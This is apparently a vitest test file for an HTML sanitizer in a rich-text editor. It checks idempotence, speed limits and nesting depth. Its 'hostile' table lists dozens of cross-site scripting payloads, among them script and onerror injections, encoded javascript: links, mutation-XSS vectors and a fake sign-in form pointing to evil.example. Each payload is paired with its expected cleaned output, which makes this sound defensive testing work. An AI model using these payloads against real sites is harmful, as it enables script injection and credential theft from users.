import { expect, test } from "vitest"
import { isBlankRichText, isRichTextTooLarge } from "../../lib/rich-text.ts"
import { processorSeconds } from "../../test/processor-time.ts"
import { cleanHtml } from "./clean-html.ts"
import { editorOutput } from "./editor-output.ts"

const png =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

test.each(editorOutput)("keeps what the editor writes: %s", (_, html) => {
  const withNofollow = html.replaceAll('rel="noopener noreferrer"', 'rel="noopener noreferrer nofollow"')
  expect(cleanHtml(html)).toBe(withNofollow)
  expect(cleanHtml(withNofollow)).toBe(withNofollow)
})

const hostile: [string, string][] = [
  ["<p>a<script>alert(1)</script>b</p>", "<p>ab</p>"],
  ["<SCRIPT SRC=https://evil.example/x.js></SCRIPT>a", "a"],
  ["<scr<script>ipt>alert(1)</script>a", "ipt&gt;alert(1)a"],
  ["a<script>alert(1)", "a"],
  ["<img src=x onerror=alert(1)>", ""],
  ['<img src="https://a.example/b.png" onerror="alert(1)" onload=alert(1)>', '<img src="https://a.example/b.png">'],
  ['<p onclick="alert(1)" id="root" name="cookie">a</p>', "<p>a</p>"],
  ['<a href="javascript:alert(1)">a</a>', "<a>a</a>"],
  ['<a href="JaVaScRiPt:alert(1)">a</a>', "<a>a</a>"],
  ['<a href="jav&#x09;ascript:alert(1)">a</a>', "<a>a</a>"],
  ['<a href="java\nscript:alert(1)">a</a>', "<a>a</a>"],
  ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>', "<a>a</a>"],
  ['<a href=" &#14; javascript:alert(1)">a</a>', "<a>a</a>"],
  ['<a href="javascript&colon;alert(1)">a</a>', "<a>a</a>"],
  ['<a href="vbscript:msgbox(1)">a</a>', "<a>a</a>"],
  ['<a href="data:text/html,<script>alert(1)</script>">a</a>', "<a>a</a>"],
  ['<a href="//evil.example">a</a>', "<a>a</a>"],
  ['<a href="/logout">a</a>', "<a>a</a>"],
  ['<a href="https://a.example/\u0001">a</a>', "<a>a</a>"],
  ['<a href="https://a.example<img src=x onerror=alert(1)>">a</a>', "<a>a</a>"],
  ['<a href="https://a.example" target="_self" rel="opener">a</a>', link("https://a.example", "a")],
  ['<img src="data:text/html;base64,PHNjcmlwdD4=">', ""],
  ['<img src="data:image/svg+xml;base64,PHN2Zy8+">', ""],
  [`<img src="data:image/png;base64,${btoa("<svg onload=alert(1)>")}">`, ""],
  [`<img src="${png.replace("base64,", "base64,\n")}">`, ""],
  [`<img src="${png}" srcset="https://evil.example/x 2x" style="position:fixed">`, `<img src="${png}">`],
  ['<img src="https://a.example/b.png" width="99999" height="1e9">', '<img src="https://a.example/b.png">'],
  ["<svg><script>alert(1)</script></svg>a", "a"],
  ["<svg/onload=alert(1)>a</svg>b", "b"],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>a', "a"],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ""],
  ["<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>a', "a"],
  ["<textarea><img src=x onerror=alert(1)></textarea>a", "a"],
  ["<title><img src=x onerror=alert(1)></title>a", "a"],
  ["<xmp><img src=x onerror=alert(1)></xmp>a", "a"],
  ["<template><img src=x onerror=alert(1)></template>a", "a"],
  ["<style>@import 'https://evil.example'</style>a", "a"],
  ['<p style="width: expression(alert(1))">a</p>', "<p>a</p>"],
  ['<p style="background:url(javascript:alert(1)); color: red; position: fixed">a</p>', "<p>a</p>"],
  [
    '<p style="color: rgb(1, 2, 3); background-image: url(https://evil.example)">a</p>',
    '<p style="color: rgb(1, 2, 3);">a</p>',
  ],
  ['<p style="color: rgb(1,2,3)/**/;background-color:#FFF">a</p>', '<p style="background-color: #FFF;">a</p>'],
  ['<p class="ql-align-center ql-indent-9 modal ql-tooltip">a</p>', '<p class="ql-align-center">a</p>'],
  ['<iframe src="https://evil.example"></iframe>a', "a"],
  ['<iframe srcdoc="<script>alert(1)</script>">a</iframe>b', "b"],
  ['<iframe class="ql-video" src="https://www.youtube.com/embed/x"></iframe>a', "a"],
  ['<object data="https://evil.example/x.swf"><embed src="https://evil.example"></object>a', "a"],
  ['<base href="https://evil.example/">a', "a"],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">a', "a"],
  ['<link rel="stylesheet" href="https://evil.example/x.css">a', "a"],
  ['<form action="https://evil.example"><input name=password><button>Sign in</button></form>', "Sign in"],
  ["<details open ontoggle=alert(1)><summary>a</summary></details>", "a"],
  ["<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>a", "a"],
  ["<!--><img src=x onerror=alert(1)>-->a", "--&gt;a"],
  ["<!--[if gte IE 4]><script>alert(1)</script><![endif]-->a", "a"],
  ["<![CDATA[<img src=x onerror=alert(1)>]]>a", "a"],
  ["<!doctype html><html><head></head><body onload=alert(1)>a</body></html>", "a"],
  ["<p>a\0b</p><scr\0ipt>alert(1)</script>", "<p>ab</p>"],
  ["<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
  ["<p>a<b>c<i>d</p>e", "<p>acd</p>e"],
  ["<strong>a<em>b</strong>c</em>", "<strong>a<em>b</em></strong>c"],
  ['<p title="></p><script>alert(1)</script>">a', "<p>a</p>"],
  ["<p contenteditable=true autofocus onfocus=alert(1) tabindex=1>a</p>", "<p>a</p>"],
  ['<span class="ql-ui" contenteditable="true">a</span>', '<span class="ql-ui">a</span>'],
  ["<constructor __proto__=1 onclick=alert(1)>a</constructor>", "a"],
  ["<p __proto__=a constructor=b>a</p>", "<p>a</p>"],
]

function link(href: string, text: string): string {
  return `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">${text}</a>`
}

test.each(hostile)("disarms %j", (html, expected) => {
  expect(cleanHtml(html)).toBe(expected)
})

const harmlessTag = new RegExp(
  "</?(h[1-6]|p|br|blockquote|pre|div|ol|ul|li|strong|em|u|s|sub|sup|code|span|a|img)" +
    '( (class="ql-[a-z0-9 -]+"|style="(background-)?color: [^"<>;:]+;( (background-)?color: [^"<>;:]+;)*"' +
    '|(alt|width|height|data-list|data-language|contenteditable|spellcheck|rel|target)="[^"<>]*"' +
    '|href="(https?|mailto|tel|sms):[^"<>]+"|src="(https?://|data:image/(png|jpeg);base64,)[^"<>]+"))*>',
  "g",
)

test("cleaning twice is cleaning once, for any jumble of hostile pieces", () => {
  const pieces = [...hostile, ...editorOutput].flatMap(([a, b]) => [a, b, ...a.split(/(?=[<>"&])/)])
  const next = seeded(20_261_120)
  for (let round = 0; round < 3_000; round += 1) {
    const jumble = Array.from({ length: 1 + next(7) }, () => pieces[next(pieces.length)]).join("")
    const once = cleanHtml(jumble)
    expect(cleanHtml(once), jumble).toBe(once)
    expect(once.replace(harmlessTag, ""), jumble).not.toContain("<")
  }
})

const burdens = [
  "<",
  "<p>",
  "<a>",
  "<img>",
  "<svg>",
  "<noscript>",
  "<!--",
  "&",
  '<p style="',
  "</p>",
  "<b></i>",
  "<p><x><ol>",
]

test.each(burdens)("as much of %j as a text may hold is cleaned in a moment", async (piece) => {
  const text = piece.repeat(200_000 / piece.length)
  expect(await processorSeconds(() => cleanHtml(text))).toBeLessThan(5)
})

test("elements nested deeper than thirty lose their tags, and those nested by the hundred are shown as text", () => {
  expect(cleanHtml("<em>".repeat(100)).match(/<em>/g)).toHaveLength(30)
  expect(cleanHtml("<em>".repeat(201))).toBe("&lt;em&gt;".repeat(201))
  expect(cleanHtml("<p>line<br>line</p>".repeat(1000))).toBe("<p>line<br>line</p>".repeat(1000))
})

test("what is left of nothing but hostile code counts as blank", () => {
  expect(isBlankRichText(cleanHtml("<p><script>alert(1)</script><img src=x></p>"))).toBe(true)
  expect(isBlankRichText(cleanHtml(`<p><img src="${png}"></p>`))).toBe(false)
})

test("a picture pasted into the text does not count as text", () => {
  const megabyte = `data:image/png;base64,iVBORw0KGgo${"A".repeat(1_000_000)}`
  const html = cleanHtml(`<p>See: <img src="${megabyte}"></p>`)
  expect(html).toContain(megabyte)
  expect(isRichTextTooLarge(html)).toBe(false)
})

/** The same numbers on every run: a linear congruential generator. */
function seeded(seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
}
